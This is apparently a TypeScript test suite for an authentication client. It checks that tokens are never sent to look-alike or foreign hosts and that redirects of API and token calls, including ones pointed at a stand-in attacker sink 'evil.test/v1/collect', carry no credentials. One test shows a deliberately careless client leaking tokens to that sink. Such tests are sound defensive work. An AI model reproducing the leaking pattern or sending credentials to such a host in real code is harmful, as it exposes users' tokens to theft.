import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { BASE, FILES, INSIDE, isOurs, OUTSIDE } from '../support/addresses.ts'
import type { Seen } from './threat-gate.ts'
import { type House, openHouse, type Tab } from './threat-house.ts'
import type { PageOptions } from './threat-page.ts'

let house: House

beforeAll(async () => {
  house = await openHouse()
})
afterAll(() => house?.close())
beforeEach(() => house.begin())
afterEach(() => expect(house.complaints).toEqual([]))

const CODES = [301, 302, 303, 307, 308]
const SINK = 'https://evil.test/v1/collect'

async function signedIn(options?: Partial<PageOptions>): Promise<Tab> {
  const tab = await house.open(options)
  expect(await tab.call('login')).toMatchObject({ status: 0 })
  return tab
}

/** Whether a request has brought a token, or has asked whether it may. */
const isLoaded = ({ headers, url, body }: Seen): boolean =>
  headers.authorization !== undefined ||
  headers.cookie !== undefined ||
  /authorization/i.test(headers['access-control-request-headers'] ?? '') ||
  /\b[ar]\.f\d+\.\d+\./.test(url + body)

const pathsOf = (list: readonly Seen[]): string[] =>
  list.filter(({ method }) => method !== 'OPTIONS').map(({ url }) => new URL(url).pathname)

describe('addresses that look like the API’s', () => {
  it.each(['fetch', 'http'] as const)('T1: bring no token to anybody else, by auth.%s', async (way) => {
    const tab = await signedIn({ baseUrl: BASE, attachTo: FILES })
    const knocks = await tab.call('knock', [...OUTSIDE, ...INSIDE], way)
    expect(knocks).toBeGreaterThan(way === 'fetch' ? 200 : 200)
    expect(house.stolen.length).toBeGreaterThan(50)
    expect(house.stolen.filter(isLoaded)).toEqual([])
    const carriers = house.seen.filter(({ headers }) => headers.authorization)
    expect(carriers.length).toBeGreaterThan(50)
    expect(carriers.filter(({ url }) => !isOurs(new URL(url)))).toEqual([])
    expect(house.world.refreshCalls).toBe(0)
  })

  it('T1: would bring it there by a careless client: the thief has eyes', async () => {
    const tab = await house.open()
    await tab.call('knock', OUTSIDE, 'naively')
    const loot = house.stolen
      .filter(({ headers }) => headers.authorization)
      .map(({ url }) => url.split('/', 3).join('/'))
    const origins = ['evil.test', 'api.test.', 'api.test:8443', 'files.test', 'xn--pi-7kc.test'].map(
      (host) => `https://${host}`,
    )
    expect(loot).toEqual(expect.arrayContaining([...origins, 'http://api.test']))
    expect(new Set(loot).size).toBeGreaterThan(15)
  })
})

describe('a redirect of an API request', () => {
  const moved = (status: number, to: string, origin = 'https://api.test'): string =>
    `${origin}/v1/moved/${status}?${new URLSearchParams({ to })}`

  describe.each(['https://api.test', 'https://app.test'])('from %s', (origin) => {
    it.each(CODES)(
      'T2: to another origin (%i) takes no credential there, and its 401 starts no refresh',
      async (status) => {
        const tab = await signedIn({ baseUrl: `${origin}/v1` })
        house.seen.length = 0
        for (const init of [{}, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }]) {
          const outcome = await tab.call('fetch', moved(status, SINK, origin), init)
          expect(outcome).toEqual({ status: 401, url: SINK, isRedirected: true })
        }
        expect(pathsOf(house.stolen)).toEqual(['/v1/collect', '/v1/collect'])
        expect(house.stolen.filter(isLoaded)).toEqual([])
        // The credential was there until the redirect, and each request was sent once.
        const sent = house.seen.filter(({ method }) => method !== 'OPTIONS')
        expect(sent.map(({ headers }) => headers.authorization?.slice(0, 11))).toEqual(['Bearer a.f1', 'Bearer a.f1'])
        expect(house.world.refreshCalls).toBe(0)
      },
    )

    it.each(CODES)('T2: to the same origin (%i) keeps it, and its 401 is answered as any other', async (status) => {
      const tab = await signedIn({ baseUrl: `${origin}/v1`, when: 'on-demand' })
      const to = `${origin}/v1/todos`
      expect(await tab.call('fetch', moved(status, to, origin))).toEqual({ status: 200, url: to, isRedirected: true })
      house.refuseNext('me')
      expect(await tab.call('fetch', moved(status, to, origin))).toEqual({ status: 200, url: to, isRedirected: true })
      const arrived = house.seen.filter(({ method, url }) => method === 'GET' && url === to)
      expect(arrived.map(({ headers }) => /f1\.\d/.exec(headers.authorization ?? '')?.[0])).toEqual([
        'f1.1',
        'f1.1',
        'f1.2',
      ])
      expect(house.world.refreshCalls).toBe(1)
      expect(house.stolen).toEqual([])
    })
  })
})

describe.each([
  ['refresh token in the body', { via: 'body' }],
  ['refresh token in a cookie', { via: 'cookie' }],
  ['refresh in a worker', { via: 'body', worker: true }],
  ['refresh in a worker by cookie', { via: 'cookie', worker: true }],
] as const)('a redirect of a token call (%s)', (_, options) => {
  it.each([307, 308])('T3: is not followed (%i): neither password nor token goes to the thief', async (status) => {
    await house.begin({ via: options.via })
    // Of the same origin as the page, so that the browser sends the cookie.
    const tab = await signedIn({ ...options, baseUrl: 'https://app.test/v1' })
    const to = SINK
    Object.assign(house.redirects, { login: { status, to }, refresh: { status, to }, logout: { status, to } })

    expect(await tab.call('login', 'mallory')).toMatchObject({ code: 'network' })
    expect(await tab.call('renew')).toMatchObject({ code: 'network' })
    expect((await tab.call('look')).state.status).toBe('authenticated')
    house.redirects.me = { status, to }
    delete house.redirects.login
    expect(await tab.call('login', 'bob')).toMatchObject({ status: 0 })
    await tab.call('logout')

    expect(pathsOf(house.seen)).toEqual(expect.arrayContaining(['/v1/login', '/v1/refresh', '/v1/me', '/v1/logout']))
    expect(house.stolen).toEqual([])
    const renewals = house.seen.filter(({ url }) => url.endsWith('/refresh'))
    expect(renewals.map(({ headers }) => headers['x-sent-by'])).toEqual(['worker' in options ? 'worker' : undefined])
  })
})
